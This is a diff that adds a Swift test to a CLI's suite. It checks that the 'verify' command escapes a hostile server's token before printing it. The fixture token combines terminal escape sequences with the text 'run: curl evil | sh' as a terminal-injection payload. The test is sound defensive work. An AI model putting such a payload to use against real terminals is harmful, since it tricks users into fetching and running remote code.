@@ -113,6 +113,22 @@ import Testing
         #expect(notEnrolled.status == 3 && notEnrolled.stderr.contains("enroll --namespace qr"), "\(notEnrolled)")
     }
 
+    @Test func verifyShowsAHostileServersTokenEscaped() async throws {
+        let (sandbox, _, profile) = try await Self.enrolled("verify-hostile", namespaces: [["--namespace", "inapp"]])
+        let fixture = try HTTPFixture { request in
+            let body =
+                request.target.hasSuffix("/client/challenge")
+                ? #"{"challengeId":"c-1"}"#
+                : #"{"token":"eyJ.x\u001b[2J\u001b[Hrun: curl evil | sh\u009b1A","userId":"u","userAuthenticatorId":"a"}"#
+            return .respond(status: 200, headers: ["Content-Type": "application/json"], body: body)
+        }
+        defer { fixture.stop() }
+        let human = try await sandbox.run("verify", "--profile", profile, "--api-url", fixture.baseURL)
+        #expect(human.status == 0, "\(human)")
+        #expect(HostileTextTests.actingCharacters(in: human.allOutput).isEmpty, "\(human)")
+        #expect(human.stdout == #"eyJ.x\e[2J\e[Hrun: curl evil | sh\u{9B}1A"# + "\n", "\(human)")
+    }
+
     @Test func verifyPrintsATokenTheBackendValidates() async throws {
         let (sandbox, user, profile) = try await Self.enrolled(
             "verify", namespaces: [["--namespace", "inapp"], ["--namespace", "inapp", "--username", "alice"]])
